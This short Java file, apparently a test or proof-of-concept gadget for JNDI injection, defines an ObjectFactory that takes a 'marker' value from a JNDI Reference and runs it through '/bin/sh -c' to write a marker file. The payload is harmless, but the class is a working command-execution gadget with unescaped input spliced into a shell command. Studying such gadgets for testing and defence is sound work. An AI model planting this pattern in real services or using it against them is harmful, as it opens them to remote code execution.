import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.RefAddr;
import javax.naming.Reference;
import javax.naming.spi.ObjectFactory;

/**
 * An object factory on the class path that starts a shell: the gadget that JNDI lookups find in
 * real services since remote code bases are no longer trusted.
 */
public final class MarkerFactory implements ObjectFactory {
    @Override
    public Object getObjectInstance(Object object, Name name, Context context, Hashtable<?, ?> table)
            throws Exception {
        RefAddr marker = ((Reference) object).get("marker");
        String command = "echo run > " + marker.getContent();
        return new ProcessBuilder("/bin/sh", "-c", command).start().waitFor();
    }
}
